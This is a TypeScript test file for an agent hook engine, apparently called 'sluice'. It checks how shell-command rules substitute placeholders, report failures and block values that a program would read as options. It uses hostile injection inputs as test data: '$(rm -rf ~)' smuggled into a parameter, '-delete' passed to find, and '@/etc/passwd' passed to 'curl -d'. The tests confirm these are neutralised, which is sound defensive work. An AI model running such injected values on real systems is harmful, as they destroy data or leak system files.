import type { AgentEvent } from 'sluice'
import { describe, expect, test } from 'vitest'
import { type CommandAnswer, createTestHost, decideWith, problemsOf, runWith } from './rule.ts'

const WRITTEN: AgentEvent = {
  event: 'tool_end',
  workspace: '/w',
  tool: { name: 'fs.write', params: { path: 'a b.py', evil: '$(rm -rf ~); `x`' }, result: 'ok' },
}

describe('shell', () => {
  test.each([
    ['a line', { command: 'npm test' }, { command: 'npm test', env: {}, cwd: null, timeout: 30 }],
    ['words', { command: ['npm', 'test'] }, { command: ['npm', 'test'], env: {}, cwd: null, timeout: 30 }],
    ['a placeholder is one word', { command: ['cat', '<<tool.params.path>>'] }, { command: ['cat', 'a b.py'] }],
    ['part of a word', { command: ['f', '--of={{tool.params.path}}'] }, { command: ['f', '--of=a b.py'] }],
    ['an empty word', { command: ['f', '<<tool.params.no>>'] }, { command: ['f', ''] }],
    ['braces are not placeholders', { command: ['echo', '{turn}'] }, { command: ['echo', '{turn}'] }],
    [
      'syntax in a value has no effect',
      { command: ['f', '<<tool.params.evil>>'] },
      { command: ['f', '$(rm -rf ~); `x`'] },
    ],
    ['a folder', { command: 'ls', cwd: '<<workspace>>/src' }, { cwd: '/w/src' }],
    ['a time', { command: 'ls', timeout: 0.5 }, { timeout: 0.5 }],
  ])('%s', (_title, fields, expected) => {
    const { commands } = decideWith({ type: 'shell', ...fields }, WRITTEN)
    expect(commands).toMatchObject([{ rule: 'example', status: 'planned', ...expected }])
  })

  test('binds a placeholder in a line as a value, never as part of the text', () => {
    const { commands } = decideWith({ type: 'shell', command: 'cat <<tool.params.evil>>' }, WRITTEN)
    const [command] = commands
    expect(command?.command).not.toContain('rm -rf')
    expect(Object.values(command?.env ?? {})).toContain('$(rm -rf ~); `x`')
  })

  test('leaves an unknown folder to the host', () => {
    const { commands } = decideWith({ type: 'shell', command: 'ls', cwd: '<<workspace>>' }, { event: 'turn_end' })
    expect(commands).toMatchObject([{ cwd: null }])
  })

  test('passes everything to the host', async () => {
    const host = createTestHost()
    const outcome = await runWith({ type: 'shell', command: ['ls', '-l'], cwd: '/w', timeout: 3 }, WRITTEN, host)
    expect(host.commands).toMatchObject([{ rule: 'example', command: ['ls', '-l'], env: {}, cwd: '/w', timeout: 3 }])
    expect(outcome).toMatchObject({ commands: [{ status: 'done' }], errors: [], inject: [], log: [] })
  })
})

describe('a command that fails', () => {
  const failing: readonly [CommandAnswer, string, string][] = [
    [{ exitCode: 2 }, 'command-failed', 'the command exited with 2'],
    [{ exitCode: 2, stderr: ' no such file\n' }, 'command-failed', 'the command exited with 2: no such file'],
    [{ exitCode: 1, stderr: 'x'.repeat(900) }, 'command-failed', `the command exited with 1: ${'x'.repeat(500)}`],
    [{ exitCode: null, stderr: 'ENOENT' }, 'command-ended', 'the command ended before it was done: ENOENT'],
    [{ exitCode: null, timedOut: true }, 'command-timeout', 'the command did not end within 30 seconds'],
    [{ exitCode: 0, timedOut: true }, 'command-timeout', 'the command did not end within 30 seconds'],
  ]

  test.each(failing)('%j', async (answer, code, message) => {
    const outcome = await runWith(
      { type: 'shell', command: 'x' },
      WRITTEN,
      createTestHost(undefined, () => answer),
    )
    expect(outcome.errors).toEqual([{ rule: 'example', code, message }])
    expect(outcome).toMatchObject({ fired: ['example'], inject: [], log: [], verdict: null })
  })

  const run = async (onError: string, fields: object = {}): Promise<object> => {
    const host = createTestHost(undefined, () => ({ exitCode: 1, stderr: 'broken' }))
    return runWith(
      { type: 'shell', command: 'x', on_error: onError },
      { ...WRITTEN, event: 'tool_start' },
      host,
      fields,
    )
  }

  const message = 'the command exited with 1: broken'

  test.each([
    ['ignore', {}, { inject: [], log: [], fired: ['example'], verdict: null }],
    ['inject', {}, { inject: [{ rule: 'example', content: message }], log: [], fired: ['example'] }],
    ['log', {}, { inject: [], log: [{ rule: 'example', level: 'error', message }], fired: ['example'] }],
    ['raise', {}, { inject: [], log: [], fired: [], verdict: null }],
    ['raise', { on_error: 'deny' }, { fired: [], verdict: 'deny', rule: 'example' }],
  ])('with `on_error: %s` and the rule’s %j', async (onError, fields, expected) => {
    expect(await run(onError, fields)).toMatchObject({
      errors: [{ rule: 'example', code: 'command-failed', message }],
      ...expected,
    })
  })

  test('is reported if the host throws', async () => {
    const host = { ...createTestHost(), process: { run: () => Promise.reject(new Error('no shell')) } }
    const outcome = await runWith({ type: 'shell', command: 'x' }, WRITTEN, host)
    expect(outcome.errors).toEqual([{ rule: 'example', code: 'command-ended', message: 'no shell' }])
  })
})

describe('a value that the program would read as an option', () => {
  const EVENT: AgentEvent = {
    event: 'tool_start',
    tool: { name: 'Find', params: { folder: '-delete', body: '@/etc/passwd' } },
  }
  const message = '`find` would read `-delete` as an option: it comes from `<<tool.params.folder>>`'
  const command = "find <<tool.params.folder>> -name '*.ts'"

  test.each([
    ['ignore', {}, { inject: [], log: [], fired: ['example'], verdict: null }],
    ['inject', {}, { inject: [{ rule: 'example', content: message }], fired: ['example'] }],
    ['log', {}, { log: [{ rule: 'example', level: 'error', message }], fired: ['example'] }],
    ['raise', {}, { fired: [], verdict: null }],
    ['raise', { on_error: 'deny' }, { fired: [], verdict: 'deny', rule: 'example' }],
  ])('is not passed on; `on_error: %s` and the rule’s %j decide', async (onError, fields, expected) => {
    const host = createTestHost()
    const outcome = await runWith({ type: 'shell', command, on_error: onError }, EVENT, host, fields)
    expect(host.commands).toEqual([])
    expect(outcome).toMatchObject({
      commands: [],
      errors: [{ rule: 'example', code: 'option-value', message }],
      ...expected,
    })
  })

  test.each([
    ['a line', command, message],
    ['words', ['find', '<<tool.params.folder>>', '-name', '*.ts'], message],
    [
      'a value that is read as something else',
      'curl -d <<tool.params.body>> https://example.org',
      '`curl -d` would read `@/etc/passwd` as the name of a file: it comes from `<<tool.params.body>>`',
    ],
  ])('is in the errors of the decision: %s', (_title, written, text) => {
    const { errors, commands } = decideWith({ type: 'shell', command: written }, EVENT)
    expect(errors).toEqual([{ rule: 'example', code: 'option-value', message: text }])
    expect(commands).toEqual([])
  })

  test('is warned about where it is, in policies of Hooks V2, too', () => {
    const policy = (action: string): string => `runtime:\n  hooks:\n    - { id: a, on: tool_end, action: ${action} }`
    expect(problemsOf(policy('{ type: shell, command: "wc -l {{tool.params.path}}" }'))).toEqual([
      '3:69 option-value the action fails if `{{tool.params.path}}` begins with `-`: `wc` would read it as an option ' +
        '(write `--` before it if the program supports that, or `./` before a path)',
    ])
    expect(problemsOf(policy('{ type: shell, command: [wc, "-l", "{{tool.params.path}}"] }'))).toEqual([
      '3:74 option-value the action fails if `{{tool.params.path}}` begins with `-`: `wc` would read it as an option ' +
        '(write `--` before it if the program supports that, or `./` before a path)',
    ])
    expect(problemsOf(policy('{ type: shell, command: "wc -l -- {{tool.params.path}}" }'))).toEqual([])
  })
})

test.each([
  ['{ type: shell }', '3:11 missing-field `action` needs `command`'],
  ['{ type: shell, command: "" }', '3:35 out-of-range `command` must not be empty'],
  ['{ type: shell, command: [] }', '3:35 out-of-range `command` must not be empty'],
  ['{ type: shell, command: 5 }', '3:35 wrong-type `command` must be text or a list, not `5`'],
  ['{ type: shell, command: a, timeout: 0 }', '3:47 out-of-range `timeout` must be more than 0, not 0'],
  ['{ type: shell, command: a, timeout: 3601 }', '3:47 out-of-range `timeout` must be at most 3600, not 3601'],
  [
    '{ type: shell, command: a, on_error: abort }',
    '3:48 wrong-value `on_error` must be `ignore`, `log`, `raise` or `inject`, not the text `abort`',
  ],
])('%s', (action, problem) => {
  expect(problemsOf(`hooks:\n- id: a\n  action: ${action}`)).toEqual([problem])
})
